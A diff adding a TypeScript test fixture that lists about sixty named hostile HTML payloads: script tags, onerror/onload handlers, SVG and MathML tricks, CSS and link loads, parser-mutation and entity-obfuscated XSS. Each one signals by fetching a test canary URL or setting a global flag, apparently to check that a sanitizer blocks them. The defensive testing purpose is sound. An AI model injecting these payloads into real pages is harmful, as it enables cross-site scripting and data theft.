@@ -1,0 +1,80 @@
+/** One shape of hostile HTML: what it is, and the markup. */
+export type HostileHtml = readonly [name: string, html: string]
+
+/**
+ * Hostile HTML of every kind the catalogues of browser attacks know, written for these tests. Each shape that works
+ * asks for `<canary>/<its name>` or sets `top.noroshiRan`.
+ */
+export function listHostileHtml(canary: string): readonly HostileHtml[] {
+  const at = (name: string) => `${canary}/${name}`
+  const act = (name: string) => `top.noroshiRan='${name}';fetch('${at(name)}')`
+  // biome-ignore format: a table is read by its columns.
+  const shapes: readonly HostileHtml[] = [
+    ['script',            `<script>${act('script')}</script>`],
+    ['script-src',        `<script src="${at('script-src')}"></script>`],
+    ['script-module',     `<script type=module>import '${at('script-module')}'</script>`],
+    ['script-odd-case',   `<ScRiPt\t\n>${act('script-odd-case')}</sCrIpT foo>`],
+    ['img-onerror',       `<img src=x onerror="${act('img-onerror')}">`],
+    ['img-slash',         `<img/src=x/onerror=${act('img-slash').replaceAll(' ', '')}>`],
+    ['body-onload',       `<body onload="${act('body-onload')}">`],
+    ['autofocus',         `<input autofocus onfocus="${act('autofocus')}"><details open ontoggle="${act('autofocus')}">`],
+    ['marquee',           `<marquee onstart="${act('marquee')}">x</marquee>`],
+    ['svg-onload',        `<svg onload="${act('svg-onload')}"></svg>`],
+    ['svg-animate',       `<svg><a xlink:href="javascript:0" id=a><animate attributeName=href values="javascript:${act('svg-animate')}" begin=0s /><text y=20>x</text></a><animate onbegin="${act('svg-animate')}" attributeName=x dur=1s></svg>`],
+    ['svg-set',           `<svg><set attributeName=onload to="${act('svg-set')}" onbegin="${act('svg-set')}" begin=0s></svg>`],
+    ['svg-use',           `<svg><use href="${at('svg-use')}#x"/><image href="${at('svg-use')}"/></svg>`],
+    ['svg-foreign',       `<svg><foreignObject><iframe src="${at('svg-foreign')}"></iframe></foreignObject></svg>`],
+    ['svg-script',        `<svg><script href="${at('svg-script')}"/><script>${act('svg-script')}</script></svg>`],
+    ['math-link',         `<math href="javascript:${act('math-link')}"><mtext>x</mtext></math>`],
+    ['meta-refresh',      `<meta http-equiv=refresh content="0;url=${at('meta-refresh')}">`],
+    ['meta-refresh-js',   `<meta http-equiv="refresh" content="0;url=javascript:${act('meta-refresh-js')}">`],
+    ['meta-policy',       `<meta http-equiv="Content-Security-Policy" content="default-src *; script-src 'unsafe-inline'"><script>${act('meta-policy')}</script>`],
+    ['base',              `<base href="${canary}/base/"><img src="base"><a href="x">x</a>`],
+    ['base-target',       `<base target=_top><a href="${at('base-target')}" id=go>x</a>`],
+    ['form-auto',         `<form action="${at('form-auto')}" id=f><input name=a value=b><button autofocus>x</button></form><script>document.forms[0].submit()</script>`],
+    ['form-image',        `<form action="${at('form-image')}"><input type=image src="${at('form-image')}"></form><button form=f formaction="javascript:${act('form-image')}">x</button>`],
+    ['css-url',           `<div style="background:url(${at('css-url')})">x</div>`],
+    ['css-escaped',       `<div style="background:u\\72l('${at('css-escaped')}')">x</div>`],
+    ['css-image-set',     `<div style="background-image:image-set('${at('css-image-set')}' 1x);cursor:url(${at('css-image-set')}),auto">x</div>`],
+    ['css-sheet',         `<style>body{background:url(${at('css-sheet')})}@font-face{font-family:a;src:url(${at('css-sheet')})}*{font-family:a}</style>x`],
+    ['css-import',        `<style>@import '${at('css-import')}';@import url(//127.0.0.1:${new URL(canary).port}/css-import);</style>`],
+    ['css-variable',      `<div style="--a:url(${at('css-variable')});background:var(--a)">x</div>`],
+    ['link-sheet',        `<link rel=stylesheet href="${at('link-sheet')}">`],
+    ['link-prefetch',     `<link rel=prefetch href="${at('link-prefetch')}"><link rel=preload as=image href="${at('link-prefetch')}"><link rel=modulepreload href="${at('link-prefetch')}">`],
+    ['link-dns',          `<link rel=dns-prefetch href="${canary}"><link rel=preconnect href="${canary}"><link rel=prerender href="${at('link-dns')}"><link rel=icon href="${at('link-dns')}"><link rel=manifest href="${at('link-dns')}">`],
+    ['speculation',       `<script type=speculationrules>{"prefetch":[{"urls":["${at('speculation')}"]}]}</script>`],
+    ['img-src',           `<img src="${at('img-src')}">`],
+    ['img-srcset',        `<img srcset="${at('img-srcset')} 1x, ${at('img-srcset')} 2x"><picture><source srcset="${at('img-srcset')}"><img></picture>`],
+    ['img-lowsrc',        `<img lowsrc="${at('img-lowsrc')}" dynsrc="${at('img-lowsrc')}"><table background="${at('img-lowsrc')}"><td background="${at('img-lowsrc')}">x</table><body background="${at('img-lowsrc')}">`],
+    ['video',             `<video autoplay muted poster="${at('video')}" src="${at('video')}"><source src="${at('video')}" onerror="${act('video')}"><track default src="${at('video')}"></video>`],
+    ['audio',             `<audio autoplay src="${at('audio')}" onerror="${act('audio')}"></audio>`],
+    ['iframe',            `<iframe src="${at('iframe')}"></iframe><frameset><frame src="${at('iframe')}"></frameset>`],
+    ['iframe-srcdoc',     `<iframe srcdoc="&lt;script&gt;${act('iframe-srcdoc')}&lt;/script&gt;&lt;img src='${at('iframe-srcdoc')}'&gt;"></iframe>`],
+    ['iframe-js',         `<iframe src="javascript:${act('iframe-js')}"></iframe><iframe src="data:text/html,&lt;script&gt;${act('iframe-js')}&lt;/script&gt;"></iframe>`],
+    ['object',            `<object data="${at('object')}"><param name=movie value="${at('object')}"></object>`],
+    ['object-html',       `<object type=text/html data="data:text/html;base64,${Buffer.from(`<script>${act('object-html')}</script>`).toString('base64')}"></object>`],
+    ['embed',             `<embed src="${at('embed')}" type=application/pdf><applet code=x archive="${at('embed')}"></applet>`],
+    ['ping',              `<a href="#" ping="${at('ping')}" id=go>x</a>`],
+    ['attribution',       `<img attributionsrc="${at('attribution')}" src=x>`],
+    ['portal',            `<portal src="${at('portal')}"></portal><fencedframe></fencedframe>`],
+    ['noscript',          `<noscript><p title="</noscript><img src=x onerror=${act('noscript')}>">`],
+    ['mutation-mglyph',   `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${act('mutation-mglyph')}&gt;">`],
+    ['mutation-form',     `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${act('mutation-form')}>`],
+    ['mutation-style',    `<svg><style><img src="</style><img src=x onerror=${act('mutation-style')}>">`],
+    ['mutation-title',    `<svg></p><title><a id="</title><img src=x onerror=${act('mutation-title')}>">`],
+    ['mutation-listing',  `<listing>&lt;img src=x onerror=${act('mutation-listing')}&gt;</listing><xmp><p title="</xmp><img src=x onerror=${act('mutation-listing')}>"></xmp>`],
+    ['namespace',         `<svg><desc><math><annotation-xml encoding="text/html"><script>${act('namespace')}</script></annotation-xml></math></desc></svg>`],
+    ['template',          `<template shadowrootmode=open><img src="${at('template')}" onerror="${act('template')}"></template>`],
+    ['shadow-host',       `<div><template shadowrootmode=open><style>:host{background:url(${at('shadow-host')})}</style><slot></slot></template></div>`],
+    ['clobber',           `<form id=document><input name=cookie><input name=body></form><a id=trustedTypes></a><a id=noroshiRan name=noroshiRan href="x"></a><img name=getElementById>`],
+    ['comment',           `<!--><img src=x onerror=${act('comment')}>--><!--!><img src=x onerror=${act('comment')}>`],
+    ['cdata',             `<![CDATA[<img src=x onerror=${act('cdata')}>]]><?xml-stylesheet href="${at('cdata')}"?>`],
+    ['entities',          `<a href="&#106;avascript&colon;${act('entities')}" id=go>x</a><img src=x one&#114;ror="${act('entities')}">`],
+    ['nul',               `<scr\0ipt>${act('nul')}</scr\0ipt><img src=x on\0error="${act('nul')}">`],
+    ['unclosed',          `<div title='<img src=x onerror=${act('unclosed')}>`],
+    ['quotes',            `<img alt="\`><img src=x onerror=${act('quotes')}>" src='x"><script>${act('quotes')}</script>'>`],
+    ['dangling',          `<img src='${at('dangling')}?<p>words that follow`],
+    ['text-direction',    `\u202e<img src=x onerror=${act('text-direction')}>\u2066`],
+  ]
+  return shapes
+}
